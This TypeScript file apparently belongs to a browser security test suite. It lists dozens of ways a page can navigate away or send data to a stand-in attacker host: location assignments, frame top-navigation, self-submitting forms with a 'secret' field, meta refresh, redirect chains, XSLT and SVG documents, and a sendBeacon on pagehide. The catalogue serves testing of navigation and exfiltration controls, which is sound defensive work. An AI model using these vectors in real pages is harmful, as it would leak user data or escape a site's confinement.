// Ways to take the page itself elsewhere: scripts, links, forms, refreshes, redirects, history.
import { inFamily, type Way } from '../way.ts';

const way = inFamily('navigation', 'nav', { alone: true });

/** A form that submits itself; `inner` holds the controls. */
const form = (attributes: string, inner: string, submit = 'f.submit()'): string =>
  `<form id="f" ${attributes}><input name="secret" value="4711">${inner}</form><script>const f = document.getElementById('f'); ${submit}</script>`;

const redirect = (id: string, status: number): Way =>
  way(
    `redirect-${status}`,
    `an own address that redirects with ${status}`,
    (a) => a.script(`location.href = '${a.site('go')}'`),
    {
      routes: (a) => ({ go: { status, headers: { location: a.evil(id) } } }),
    },
  );

export const NAVIGATION: readonly Way[] = [
  way('href', 'location.href =', (a) => a.script(`location.href = '${a.evil()}'`)),
  way('location', 'window.location =', (a) => a.script(`window.location = '${a.evil()}'`)),
  way('document-location', 'document.location =', (a) => a.script(`document.location = '${a.evil()}'`)),
  way('assign', 'location.assign()', (a) => a.script(`location.assign('${a.evil()}')`)),
  way('replace', 'location.replace()', (a) => a.script(`location.replace('${a.evil()}')`)),
  way('host', 'location.host =', (a) => a.script(`location.host = '${a.host}'`)),
  way('hostname', 'location.hostname =', (a) => a.script(`location.hostname = '${a.host}'`)),
  way(
    'top',
    'top.location from a frame',
    (a) => `<iframe srcdoc="<script>top.location = '${a.evil()}'</script>"></iframe>`,
  ),
  way(
    'parent',
    'parent.location from a frame, with a gesture',
    (a) =>
      a.go(
        `const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.eval("parent.location = '${a.evil()}'")`,
      ),
    { click: true },
  ),
  way('open-self', 'window.open(…, "_self")', (a) => a.script(`open('${a.evil()}', '_self')`)),
  way(
    'open-top',
    'window.open(…, "_top") from a frame',
    (a) =>
      a.go(
        `const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.open('${a.evil()}', '_top')`,
      ),
    { click: true },
  ),
  way(
    'link',
    'a link that a script clicks',
    (a) => `<a id="a" href="${a.evil()}">x</a>${a.script(`document.getElementById('a').click()`)}`,
  ),
  way(
    'link-data',
    'a link with data in its query',
    (a) =>
      `<a id="a" href="${a.evil('?secret=4711')}">x</a>${a.script(`document.getElementById('a').click()`)}`,
  ),
  way(
    'area',
    'an image map',
    (a) =>
      `<map name="m"><area id="a" shape="default" href="${a.evil()}"></map><img usemap="#m" alt="">${a.script(`document.getElementById('a').click()`)}`,
  ),
  way(
    'svg-link',
    'a link in SVG',
    (a) =>
      `<svg><a id="a" href="${a.evil()}"><text y="20">x</text></a></svg>${a.script(`document.getElementById('a').dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))`)}`,
  ),
  way(
    'base',
    'base href turns a relative link',
    (a) =>
      `<base href="${a.evil('')}"><a id="a" href="x">x</a>${a.script(`document.getElementById('a').click()`)}`,
  ),
  way(
    'base-target',
    'base target turns a link to the top',
    (a) =>
      `<base target="_top"><a id="a" href="${a.evil()}">x</a>${a.script(`document.getElementById('a').click()`)}`,
  ),
  way('meta', 'meta refresh', (a) => `<meta http-equiv="refresh" content="0;url=${a.evil()}">`),
  way(
    'meta-late',
    'meta refresh after a second',
    (a) => `<meta http-equiv="refresh" content="1;url=${a.evil()}">`,
    { windowMs: 2_000 },
  ),
  way('meta-script', 'meta refresh written by a script', (a) =>
    a.script(
      `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${a.evil()}'; document.head.append(m)`,
    ),
  ),
  way('refresh', 'Refresh header', () => '', { headers: (a) => ({ refresh: `0;url=${a.evil()}` }) }),
  ...[301, 302, 303, 307, 308].map((status) => redirect('x', status)),
  way(
    'redirect-chain',
    'a redirect through five own hops',
    (a) => a.script(`location.href = '${a.site('1')}'`),
    {
      routes: (a) => ({
        ...Object.fromEntries(
          [1, 2, 3, 4].map((hop) => [
            String(hop),
            { status: 302, headers: { location: a.site(String(hop + 1)) } },
          ]),
        ),
        5: { status: 302, headers: { location: a.evil() } },
      }),
    },
  ),
  way(
    'redirect-relative',
    'a redirect to a scheme-relative address',
    (a) => a.script(`location.href = '${a.site('go')}'`),
    {
      routes: (a) => ({ go: { status: 302, headers: { location: `//${a.host}/x` } } }),
    },
  ),
  way(
    'redirect-post',
    'a form whose answer is a 307',
    (a) => form(`method="post" action="${a.site('go')}"`, ''),
    {
      routes: (a) => ({ go: { status: 307, headers: { location: a.evil() } } }),
    },
  ),
  way('form-get', 'form GET', (a) => form(`action="${a.evil()}"`, '')),
  way('form-post', 'form POST', (a) => form(`method="post" action="${a.evil()}"`, '')),
  way('form-multipart', 'form POST, multipart', (a) =>
    form(`method="post" enctype="multipart/form-data" action="${a.evil()}"`, ''),
  ),
  way('form-plain', 'form POST, text/plain', (a) =>
    form(`method="post" enctype="text/plain" action="${a.evil()}"`, ''),
  ),
  way('form-request-submit', 'form.requestSubmit()', (a) =>
    form(`action="${a.evil()}"`, '<button></button>', 'f.requestSubmit()'),
  ),
  way('form-action', 'formaction of a button', (a) =>
    form(
      '',
      `<button id="b" formaction="${a.evil()}" formmethod="post"></button>`,
      `document.getElementById('b').click()`,
    ),
  ),
  way('form-image', 'an image button', (a) =>
    form(
      `action="${a.evil()}"`,
      '<input type="image" id="b" alt="">',
      `document.getElementById('b').click()`,
    ),
  ),
  way(
    'form-attribute',
    'a button outside its form',
    (a) =>
      `${form(`action="${a.evil()}"`, '', '')}<button id="b" form="f"></button>${a.script(`document.getElementById('b').click()`)}`,
  ),
  way(
    'form-base',
    'a form without action under a base',
    (a) => `<base href="${a.evil('')}">${form('action="x" method="post"', '')}`,
  ),
  way(
    'form-top',
    'a form in a frame, target _top',
    (a) =>
      a.go(
        `const f = document.createElement('iframe'); document.body.append(f); f.contentDocument.write('<form action="${a.evil()}" target="_top"></form>'); f.contentDocument.forms[0].submit()`,
      ),
    { click: true },
  ),
  way(
    'form-dialog',
    'a dialog form with formmethod',
    (a) =>
      `<dialog open><form id="f" method="dialog"><button id="b" formmethod="post" formaction="${a.evil()}"></button></form></dialog>${a.script(`document.getElementById('b').click()`)}`,
  ),
  way(
    'form-click',
    'a form that a person sends',
    (a) =>
      `<form id="f" method="post" action="${a.evil()}"><input name="secret" value="4711"></form>${a.go(`document.getElementById('f').submit()`)}`,
    { click: true },
  ),
  way(
    'history',
    'back to an entry that redirects',
    (a) =>
      a.script(
        `if (location.hash === '') { history.pushState(null, '', '${a.site('go')}'); setTimeout(() => location.reload(), 50); }`,
      ),
    {
      routes: (a) => ({ go: { status: 302, headers: { location: a.evil() } } }),
    },
  ),
  way(
    'reload-base',
    'reload of a pushed address that redirects by meta',
    (a) => a.script(`history.replaceState(null, '', '${a.site('go')}'); location.reload()`),
    {
      routes: (a) => ({ go: { body: `<meta http-equiv="refresh" content="0;url=${a.evil()}">` } }),
    },
  ),
  way('navigation-api', 'navigation.navigate()', (a) => a.script(`navigation.navigate('${a.evil()}')`)),
  way(
    'javascript-url',
    'a javascript: link',
    (a) =>
      `<a id="a" href="javascript:location='${a.evil()}'">x</a>${a.script(`document.getElementById('a').click()`)}`,
  ),
  way('document-write', 'document.write of a refresh', (a) =>
    a.script(
      `document.open(); document.write('<meta http-equiv=refresh content="0;url=${a.evil()}">'); document.close()`,
    ),
  ),
  way(
    'xslt',
    'an XSLT stylesheet that writes a refresh',
    (a) => a.script(`location.href = '${a.site('doc.xml')}'`),
    {
      routes: (a) => ({
        'doc.xml': {
          headers: { 'content-type': 'application/xml' },
          body: `<?xml-stylesheet type="text/xsl" href="${a.site('sheet.xsl')}"?><x/>`,
        },
        'sheet.xsl': {
          headers: { 'content-type': 'application/xslt+xml' },
          body: `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><head><meta http-equiv="refresh" content="0;url=${a.evil()}"/></head></html></xsl:template></xsl:stylesheet>`,
        },
      }),
    },
  ),
  way(
    'svg-document',
    'an SVG document with a script',
    (a) => a.script(`location.href = '${a.site('doc.svg')}'`),
    {
      routes: (a) => ({
        'doc.svg': {
          headers: { 'content-type': 'image/svg+xml' },
          body: `<svg xmlns="http://www.w3.org/2000/svg"><script>location.href = '${a.evil()}'</script></svg>`,
        },
      }),
    },
  ),
  way(
    'xhtml',
    'an XHTML document with a script',
    (a) => a.script(`location.href = '${a.site('doc.xhtml')}'`),
    {
      routes: (a) => ({
        'doc.xhtml': {
          headers: { 'content-type': 'application/xhtml+xml' },
          body: `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>location.href = '${a.evil()}'</script></body></html>`,
        },
      }),
    },
  ),
  way(
    'blob',
    'a blob: document in a frame that takes the top away',
    (a) =>
      a.go(
        `const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(["<script>top.location = '${a.evil()}'<" + "/script>"], { type: 'text/html' })); document.body.append(f)`,
      ),
    { click: true },
  ),
  way(
    'beforeunload',
    'a navigation begun while leaving',
    (a) =>
      a.script(
        `addEventListener('pagehide', () => navigator.sendBeacon('${a.evil()}', '4711')); location.href = '${a.site('two')}'`,
      ),
    {
      routes: () => ({ two: { body: 'two' } }),
    },
  ),
  way(
    'timer',
    'a navigation half a second later',
    (a) => a.script(`setTimeout(() => { location.href = '${a.evil()}' }, 500)`),
    { windowMs: 1_200 },
  ),
  way('error', 'a navigation from an error handler', (a) =>
    a.script(
      `window.onerror = () => { location.href = '${a.evil()}' }; setTimeout(() => { throw new Error('x') }, 10)`,
    ),
  ),
  way('credentials', 'a target with user information', (a) =>
    a.script(`location.href = 'http://site.localhost@${a.host}/x'`),
  ),
  way('https', 'a target over https', (a) => a.script(`location.href = '${a.evil('x', 'https')}'`)),
];
